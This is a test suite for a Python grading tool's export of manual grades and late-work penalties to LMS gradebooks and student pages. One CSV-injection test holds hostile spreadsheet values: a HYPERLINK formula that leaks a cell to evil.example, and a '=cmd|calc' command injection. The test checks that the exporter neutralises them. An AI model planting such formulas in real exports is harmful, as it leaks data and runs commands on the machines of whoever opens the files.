"""Grades given by a person and the late policy: from the instructor's files to every
gradebook, the report and the student's page, through ``python -m grader export``."""

import csv
import io
import json
import os
from datetime import datetime, timezone

import pytest

from grader.class_run.submissions import NotebookJob
from grader.cli import main
from grader.outputs.grades_by_people import GradesByPeople
from grader.outputs.late_work import PolicyError, lateness_of, read_policy
from grader.outputs.report import class_report, lesson_maxima, summary_table, write_json
from grader.results import CheckResult, HandIn, NotebookResult, WrittenAnswer

CONCLUSION = "CER helps at small buffers: <b>seeds 0-9</b> & 10-19 both say so."


def capstone(answered=True, checks_passed=True):
    result = NotebookResult("06_capstone", isolation="namespaces",
                            written=[WrittenAnswer("conclusion", 3.0,
                                                   CONCLUSION if answered else "stub", answered)])
    result.add(CheckResult("test_confidence_interval", 1.0 if checks_passed else 0.0, 1.0,
                           "passed" if checks_passed else "failed", "interval fine"))
    result.add(CheckResult("test_compare_replay", 4.0, 4.0, "passed", "comparison fine"))
    return result


def qlearning(update_points=3.0):
    result = NotebookResult("01_qlearning", isolation="namespaces")
    result.add(CheckResult("test_update", update_points, 3.0,
                           "passed" if update_points == 3.0 else "failed", "update"))
    result.add(CheckResult("test_play_and_train", 9.0, 9.0, "passed", "learns"))
    return result


@pytest.fixture
def report_file(tmp_path):
    """ada and ben handed in the capstone (ada answered its written question, ben did
    not); ben's update check failed; cy handed in nothing."""
    report = class_report({"ada": [qlearning(), capstone()],
                                 "ben": [qlearning(0.0), capstone(answered=False)],
                                 "cy": []}, lessons=lesson_maxima())
    path = tmp_path / "report.json"
    write_json(report, path)
    return path


@pytest.fixture
def roster(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_text("folder,name,id,email\nada,Ada L,101,ada@example.edu\n"
                    "ben,Ben K,102,ben@example.edu\ncy,Cy P,103,cy@example.edu\n")
    return path


def export(report, tmp_path, *options):
    """Run ``export``; return (exit code, {format: rows}) for the three gradebooks."""
    books = {}
    for name, extra in (("generic", []), ("canvas", []), ("moodle", ["--moodle-feedback"])):
        out = tmp_path / f"{name}.csv"
        code = main(["export", str(report), "--csv", str(out), "--format", name, *extra,
                     *options])
        if code:
            return code, None
        books[name] = list(csv.reader(io.StringIO(out.read_text())))
    return 0, books


def column(rows, title, student, key=0):
    header = rows[0]
    row = next(row for row in rows if row[key] == student)
    return row[next(i for i, name in enumerate(header) if name.startswith(title))]


def test_the_grader_writes_a_template_of_every_answer_awaiting_a_person(report_file, tmp_path,
                                                                         roster, capsys):
    manual = tmp_path / "manual.csv"
    code, _ = export(report_file, tmp_path, "--manual", str(manual), "--roster", str(roster))
    assert code == 0
    rows = list(csv.DictReader(manual.open()))
    # ada's answer awaits a person; ben's is the stub (0 points, nobody to grade it)
    assert [(row["student"], row["lesson"], row["item"], row["points"], row["max_points"])
            for row in rows] == [("ada", "06_capstone", "conclusion", "", "3")]
    assert rows[0]["answer"] == CONCLUSION  # the student's text beside the blank points
    assert "1 row(s) added" in capsys.readouterr().out


def test_a_manual_score_reaches_every_gradebook_and_the_students_page(report_file, tmp_path,
                                                                     roster):
    manual = tmp_path / "manual.csv"
    manual.write_text("student,lesson,item,points,comment\n"
                      "ada,06,conclusion,2.5,Quote the interval too.\n")
    code, books = export(report_file, tmp_path, "--manual", str(manual), "--roster",
                         str(roster))
    assert code == 0
    # the capstone: 5 points of checks + 2.5 from a person, out of 5 + 3
    assert column(books["generic"], "06_capstone", "ada") == "7.5"
    assert column(books["generic"], "total", "ada") == "19.5"
    assert column(books["canvas"], "06_capstone", "Ada L") == "7.5"
    assert column(books["canvas"], "06_capstone", "Points Possible") == "8"
    assert column(books["moodle"], "06_capstone", "ada@example.edu") == "7.5"
    feedback = column(books["moodle"], "06_capstone (feedback)", "ada@example.edu")
    assert "conclusion: 2.5 / 3. Quote the interval too." in feedback
    pages = tmp_path / "pages"
    merged = tmp_path / "merged.json"
    assert main(["export", str(report_file), "--manual", str(manual), "--feedback", str(pages),
                 "--json", str(merged)]) == 0
    page = (pages / "ada.html").read_text()
    assert "graded by a person: 2.5 / 3 points" in page and "Quote the interval too." in page
    assert "&lt;b&gt;seeds 0-9&lt;/b&gt;" in page  # the student's text, escaped
    notebook = next(n for n in json.loads(merged.read_text())["submissions"][0]["notebooks"]
                    if n["name"] == "06_capstone")
    assert notebook["score"] == 7.5 and notebook["manual"][0]["status"] == "graded by a person"
    # nothing was appended: the only answer awaiting a person has its grade
    assert manual.read_text().count("\n") == 2


def test_regrades_and_excused_lessons_change_the_totals_the_gradebooks_show(report_file,
                                                                           tmp_path, roster):
    manual = tmp_path / "manual.csv"
    manual.write_text("student,lesson,item,points,comment\n"
                      "ben,01_qlearning,test_update,2,regraded: an unfair edge case\n"
                      "ben,06_capstone,*,excused,medical leave\n"
                      "cy,01,*,excused,joined late\n")
    code, books = export(report_file, tmp_path, "--manual", str(manual), "--roster",
                         str(roster))
    assert code == 0
    generic = books["generic"]
    assert column(generic, "01_qlearning", "ben") == "11"  # 0 -> 2 for test_update
    assert column(generic, "06_capstone", "ben") == "EX"
    assert column(generic, "total", "ben") == "11"  # the excused lesson counts in no total
    assert column(generic, "01_qlearning", "cy") == "EX"
    assert column(books["canvas"], "06_capstone", "Ben K") == "EX"
    assert column(books["moodle"], "06_capstone", "ben@example.edu") == ""
    assert column(books["moodle"], "06_capstone (feedback)",
                  "ben@example.edu") == "Excused. medical leave"
    merged = tmp_path / "merged.json"
    assert main(["export", str(report_file), "--manual", str(manual), "--json",
                 str(merged)]) == 0
    ben = json.loads(merged.read_text())["submissions"][1]
    assert ben["score"] == 11 and ben["max_score"] == sum(lesson_maxima().values()) - 8


def test_grading_again_keeps_every_row_of_the_file(report_file, tmp_path):
    manual = tmp_path / "manual.csv"
    mine = ("student,lesson,item,points,comment,max_points,answer\n"
            "ada,06_capstone,conclusion,3,\"Clear, and backed by both seed sets\",3,\n")
    manual.write_text(mine)
    for _ in range(2):
        assert main(["export", str(report_file), "--csv", str(tmp_path / "g.csv"),
                     "--manual", str(manual)]) == 0
    assert manual.read_text() == mine  # byte for byte: nothing rewritten, nothing added
    # a class graded in parts: a second student's answer gets its row at the end
    report = json.loads(report_file.read_text())
    report["submissions"][1]["notebooks"][5]["manual"][0].update(
        answered=True, status="awaiting manual grading", score=None, answer="Ben's view")
    report_file.write_text(json.dumps(report))
    assert main(["export", str(report_file), "--csv", str(tmp_path / "g.csv"),
                 "--manual", str(manual)]) == 0
    text = manual.read_text()
    assert text.startswith(mine) and text[len(mine):].startswith("ben,06_capstone,conclusion,,")


def test_a_students_text_never_runs_as_a_formula_in_the_instructors_spreadsheet(tmp_path):
    hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    result = capstone()
    result.written[0].answer = hostile
    report = class_report({"=cmd|calc": [result]}, lessons=lesson_maxima())
    path = tmp_path / "report.json"
    write_json(report, path)
    manual = tmp_path / "manual.csv"
    assert main(["export", str(path), "--csv", str(tmp_path / "g.csv"), "--manual",
                 str(manual)]) == 0
    (row,) = csv.DictReader(manual.open())
    assert row["answer"] == "'" + hostile and row["student"] == "'=cmd|calc"
    # graded in the spreadsheet and read back, the row is the student's
    manual.write_text(manual.read_text().replace("conclusion,,", "conclusion,2,"))
    assert main(["export", str(path), "--json", str(tmp_path / "final.json"), "--manual",
                 str(manual)]) == 0
    (student,) = json.loads((tmp_path / "final.json").read_text())["submissions"]
    assert student["student"] == "=cmd|calc" and student["score"] == 7


@pytest.mark.parametrize("line, says", [
    ("ada,06_capstone,conclusion,4,", "line 2: 4 points for conclusion, which is worth 3"),
    ("ada,06_capstone,conclusion,-1,", "line 2: points -1 must be 0 or more"),
    ("ada,06_capstone,conclusion,lots,", "line 2: points 'lots' is not a number"),
    ("zed,06_capstone,conclusion,1,", "line 2: no student 'zed'"),
    ("ada,06_capstone,conclusoin,1,", "line 2: 06_capstone has no written answer or check "
                                      "'conclusoin'"),
    ("ada,08_extra,conclusion,1,", "line 2: no lesson '08_extra' in this course"),
    ("ada,06_capstone,conclusion,excused,", "line 2: only a whole lesson (item *)"),
    ("ada,01_qlearning,test_update,4,", "line 2: 4 points for test_update, which is worth 3"),
    ("ada,06_capstone,conclusion,1,\nada,06,conclusion,2,", "line 3: a second grade for "
                                                           "conclusion of ada's 06_capstone"),
])
def test_a_wrong_row_is_one_line_naming_it_and_nothing_is_written(report_file, tmp_path,
                                                                  capsys, line, says):
    manual = tmp_path / "manual.csv"
    manual.write_text(f"student,lesson,item,points,comment\n{line}\n")
    before = manual.read_text()
    gradebook = tmp_path / "g.csv"
    assert main(["export", str(report_file), "--csv", str(gradebook), "--manual",
                 str(manual)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith(f"grader: {manual}") and says in err and "\n" not in err, err
    assert not gradebook.exists() and manual.read_text() == before


# --- late work -------------------------------------------------------------------------
POLICY = """
timezone = "UTC"
grace_minutes = 10
[penalty]
percent = 10
per = "day"
floor = 75
[due]
"01" = 2026-09-14T23:59:00
06_capstone = 2026-10-30T23:59:00
[extensions.ben]
"01" = 2026-09-16T23:59:00
[extensions.cy]
"*" = "36h"
"""


def hand_in(folder, student, lesson, stamp=None, mtime=None):
    """A notebook of ``student`` in nbgrader's submitted/<student>/<lesson>/ layout, with
    nbgrader's timestamp.txt (its own format) or only a file time."""
    where = folder / student / lesson
    where.mkdir(parents=True)
    notebook = where / f"{lesson}.ipynb"
    notebook.write_text("{}")
    if stamp:
        (where / "timestamp.txt").write_text(stamp.strftime("%Y-%m-%d %H:%M:%S.%f UTC"))
    if mtime:
        os.utime(notebook, (mtime.timestamp(), mtime.timestamp()))
    return NotebookJob(student, notebook, lesson)


def utc(*parts):
    return datetime(*parts, tzinfo=timezone.utc)


@pytest.fixture
def late_class(tmp_path):
    """ada and ben both handed lesson 01 in two days and a bit late; ben has an extension
    to the 16th; cy handed it in an hour late as a file without timestamp.txt (cy has 36
    hours more on every lesson); ada's capstone came in within the grace period."""
    jobs = [hand_in(tmp_path / "class", "ada", "01_qlearning", utc(2026, 9, 17, 1, 0)),
            hand_in(tmp_path / "class", "ben", "01_qlearning", utc(2026, 9, 17, 1, 0)),
            hand_in(tmp_path / "class", "cy", "01_qlearning", mtime=utc(2026, 9, 15, 0, 59)),
            hand_in(tmp_path / "class", "ada", "06_capstone", utc(2026, 10, 31, 0, 5))]
    report = class_report({"ada": [qlearning(), capstone()], "ben": [qlearning()],
                                 "cy": [qlearning()]}, lessons=lesson_maxima())
    policy = tmp_path / "policy.toml"
    policy.write_text(POLICY)
    return tmp_path / "class", jobs, report, policy


def notebook_of(report, student, lesson):
    """The student's lesson as the JSON report holds it."""
    return report.student(student).notebook(lesson).to_data()


def test_a_late_notebook_with_and_without_an_extension_gets_the_stated_penalty(late_class,
                                                                              tmp_path):
    folder, jobs, report, policy = late_class
    by_people = GradesByPeople.read(policy=str(policy))
    by_people.record_hand_in_times(report, jobs, folder)
    by_people.apply(report)
    ada = notebook_of(report, "ada", "01_qlearning")
    # due the 14th 23:59 (+10 min grace), in on the 17th 01:00: 2.04 days after the due
    # time (Canvas counts from it), 3 days begun, 30% of the points; the floor keeps 75%
    assert ada["late"]["periods_late"] == 3 and ada["late"]["penalty_fraction"] == 0.3
    assert ada["raw_score"] == 12 and ada["score"] == 9
    assert ada["handed_in"]["source"] == "nbgrader's timestamp.txt"
    ben = notebook_of(report, "ben", "01_qlearning")  # extended to the 16th: 1 day begun
    assert ben["late"]["extended"] and ben["late"]["penalty_fraction"] == 0.1
    assert ben["score"] == pytest.approx(10.8)
    cy = notebook_of(report, "cy", "01_qlearning")  # an hour late, within 36 h more
    assert cy["late"]["late"] is False and cy["score"] == 12
    assert cy["handed_in"]["source"] == "the file's modification time"
    capstone_entry = notebook_of(report, "ada", "06_capstone")  # 6 minutes: within grace
    assert capstone_entry["late"]["late"] is False
    # every gradebook writes the late-adjusted score; the report keeps the raw one
    report_path = tmp_path / "late.json"
    write_json(report, report_path)
    generic = tmp_path / "g.csv"
    assert main(["export", str(report_path), "--csv", str(generic), "--policy",
                 str(policy)]) == 0
    rows = list(csv.reader(generic.open()))
    assert column(rows, "01_qlearning", "ada") == "9"
    assert column(rows, "01_qlearning", "ben") == "10.8"
    pages = tmp_path / "pages"
    assert main(["export", str(report_path), "--feedback", str(pages), "--policy",
                 str(policy)]) == 0
    page = (pages / "ada.html").read_text()
    assert ("Handed in 2026-09-17 01:00 UTC (from nbgrader&#x27;s timestamp.txt); due "
            "2026-09-14 23:59 UTC, 10 minutes&#x27; grace: 2.0 days late, 3 days at 10% each:"
            " 30% of the lesson&#x27;s points off the score, never below 75% of them.") in page
    assert "Before the penalty: 12 points; after it: 9." in page
    assert "with your extension" in (pages / "ben.html").read_text()


def test_the_printed_table_marks_a_late_lesson_and_what_the_penalty_cut(late_class):
    folder, jobs, report, policy = late_class
    assert "late" not in summary_table(report)  # no policy applied: no late column
    by_people = GradesByPeople.read(policy=str(policy))
    by_people.record_hand_in_times(report, jobs, folder)
    by_people.apply(report)
    rows = {tuple(line.split()[:2]): line for line in summary_table(report).splitlines()[1:]}
    assert "9 / 12" in rows["ada", "01_qlearning"]
    assert "late: 12 before the penalty" in rows["ada", "01_qlearning"]
    assert "late" not in rows["cy", "01_qlearning"]  # within the extension


@pytest.mark.parametrize("minutes, periods", [(90, None), (91, 2), (120, 2), (121, 3)])
def test_lateness_counts_from_the_due_time_as_canvas_does_the_grace_only_says_if_late(
        tmp_path, minutes, periods):
    """Hourly penalties, 90 minutes' grace: 91 minutes after the due time is late by 91
    minutes (2 hours begun), not by the 1 minute past the grace."""
    path = tmp_path / "policy.toml"
    path.write_text('timezone = "UTC"\ngrace_minutes = 90\n[penalty]\npercent = 5\n'
                    'per = "hour"\n[due]\n"01" = 2026-09-14T12:00:00\n')
    policy = read_policy(path, list(lesson_maxima()))
    moment = datetime(2026, 9, 14, 12, tzinfo=timezone.utc).timestamp() + 60 * minutes
    late = lateness_of(policy, "ada", "01_qlearning", HandIn(
        datetime.fromtimestamp(moment, timezone.utc).isoformat(), "a test"))
    assert late.late is (periods is not None)
    assert late.periods_late == periods
    assert late.penalty_fraction == pytest.approx(0.05 * periods if periods else 0.0)


def test_lateness_left_to_the_lms_penalises_nothing_but_is_reported(late_class):
    folder, jobs, report, policy = late_class
    policy.write_text(POLICY.replace('grace_minutes', 'lateness = "lms"\ngrace_minutes'))
    by_people = GradesByPeople.read(policy=str(policy))
    by_people.record_hand_in_times(report, jobs, folder)
    lines = by_people.apply(report)
    ada = notebook_of(report, "ada", "01_qlearning")
    assert ada["late"]["late"] and ada["score"] == ada["raw_score"] == 12
    assert "Your LMS applies the course's late policy" in ada["late"]["explanation"]
    assert "left to the LMS" in lines[-1]


def test_hand_in_times_from_the_lms_come_first(late_class, tmp_path):
    folder, jobs, report, policy = late_class
    times = tmp_path / "times.csv"
    times.write_text("student,lesson,time\nada,01,2026-09-14T20:00:00+00:00\n")
    by_people = GradesByPeople.read(policy=str(policy),
                                    handed_in=str(times))
    by_people.record_hand_in_times(report, jobs, folder)
    by_people.apply(report)
    ada = notebook_of(report, "ada", "01_qlearning")
    assert ada["handed_in"]["source"] == "the hand-in times file" and not ada["late"]["late"]


def test_an_extension_or_a_hand_in_time_for_no_student_of_the_class_is_refused(late_class,
                                                                              tmp_path):
    # a misspelt name would give the real student no extension, silently
    folder, jobs, report, policy = late_class
    policy.write_text(POLICY.replace("[extensions.ben]", "[extensions.bne]"))
    by_people = GradesByPeople.read(policy=str(policy))
    with pytest.raises(PolicyError, match=r"\[extensions.bne\] names no student of this "
                                          r"class; did you mean ben\?"):
        by_people.check_class(["ada", "ben", "cy"], lesson_maxima())
    with pytest.raises(PolicyError, match="did you mean ben"):  # export applies it too
        by_people.apply(report)
    policy.write_text(POLICY)
    times = tmp_path / "times.csv"
    times.write_text("student,lesson,time\nadaa,01,2026-09-14T20:00:00+00:00\n")
    by_people = GradesByPeople.read(policy=str(policy), handed_in=str(times))
    with pytest.raises(PolicyError, match="the time for adaa names no student of this "
                                          "class; did you mean ada"):
        by_people.check_class(["ada", "ben", "cy"], lesson_maxima())


def test_a_terms_extension_for_a_student_not_graded_here_is_named_not_applied(late_class):
    # grading part of a class with the term's policy: the others' extensions are no typo
    folder, jobs, report, policy = late_class
    policy.write_text(POLICY + '[extensions.zoe]\n"01" = "1d"\n')
    by_people = GradesByPeople.read(policy=str(policy))
    by_people.check_class(["ada", "ben", "cy"], lesson_maxima())  # not refused
    by_people.record_hand_in_times(report, jobs, folder)
    lines = by_people.apply(report)
    assert "--policy: [extensions.zoe] names no student graded here: not applied" in lines


def test_a_graded_notebook_missing_from_the_hand_in_times_is_named(late_class, tmp_path):
    folder, jobs, report, policy = late_class
    times = tmp_path / "times.csv"
    times.write_text("student,lesson,time\nada,01,2026-09-14T20:00:00+00:00\n")
    by_people = GradesByPeople.read(policy=str(policy), handed_in=str(times))
    by_people.record_hand_in_times(report, jobs, folder)
    lines = by_people.apply(report)
    (line,) = [line for line in lines if line.startswith("--handed-in has no time for")]
    assert line.startswith("--handed-in has no time for 3 graded notebook(s) (ada's "
                           "06_capstone, ben's 01_qlearning, cy's 01_qlearning)"), line


def test_a_hand_in_time_without_an_offset_is_in_the_policys_time_zone(late_class, tmp_path):
    # due 23:59 London time; handed in at 23:59 London time, written without an offset
    # (as an LMS export may): on time, not read as UTC and an hour late
    folder, jobs, report, policy = late_class
    policy.write_text(POLICY.replace('timezone = "UTC"', 'timezone = "Europe/London"'))
    times = tmp_path / "times.csv"
    times.write_text("student,lesson,time\nada,01,2026-09-14T23:59:00\n")
    by_people = GradesByPeople.read(policy=str(policy), handed_in=str(times))
    by_people.record_hand_in_times(report, jobs, folder)
    by_people.apply(report)
    ada = notebook_of(report, "ada", "01_qlearning")
    assert ada["handed_in"]["time"] == "2026-09-14T22:59:00+00:00"  # BST is UTC+1
    assert not ada["late"]["late"], ada["late"]


@pytest.mark.parametrize("change, says", [
    (("percent = 10", "percent = 110"), "percent must be a number from 0 to 100"),
    (('per = "day"', 'per = "week"'), 'per must be "day" or "hour"'),
    (('"01" = 2026-09-14', '"09" = 2026-09-14'), "no lesson '09' in this course"),
    (('"*" = "36h"', '"*" = "soon"'), "'soon' is neither a date and time nor more time"),
    (('timezone = "UTC"', 'timezone = "Mars/Olympus"'), "is not an IANA time zone"),
    (("[due]", "[due"), "not TOML"),
    # a typo inside a table: refused like one at the top level, not read as no penalty
    (("percent = 10", "precent = 10"), "[penalty]: unknown setting precent"),
])
def test_a_wrong_policy_is_one_line_and_nothing_is_written(late_class, tmp_path, capsys,
                                                           change, says):
    _, _, report, policy = late_class
    policy.write_text(POLICY.replace(*change))
    report_path = tmp_path / "r.json"
    write_json(report, report_path)
    assert main(["export", str(report_path), "--csv", str(tmp_path / "g.csv"), "--policy",
                 str(policy)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("grader: ") and says in err and "\n" not in err, err
    assert not (tmp_path / "g.csv").exists()


def test_a_report_graded_without_a_policy_says_to_grade_again_with_it(report_file, tmp_path,
                                                                      capsys):
    policy = tmp_path / "policy.toml"
    policy.write_text(POLICY)
    assert main(["export", str(report_file), "--csv", str(tmp_path / "g.csv"), "--policy",
                 str(policy)]) == 2
    assert "graded without --policy" in capsys.readouterr().err


@pytest.mark.parametrize("seconds, words", [(1, "1 minute"), (61, "2 minutes"),
                                            (7199, "120 minutes"), (7200, "2.0 hours"),
                                            (30 * 3600, "30.0 hours"),
                                            (49 * 3600, "2.0 days")])
def test_how_late_never_reads_as_none(seconds, words):
    # a notebook one minute past the grace period is late: "1 minute", not "0.0 hours"
    from datetime import timedelta

    from grader.outputs.late_work import _duration
    assert _duration(timedelta(seconds=seconds)) == words
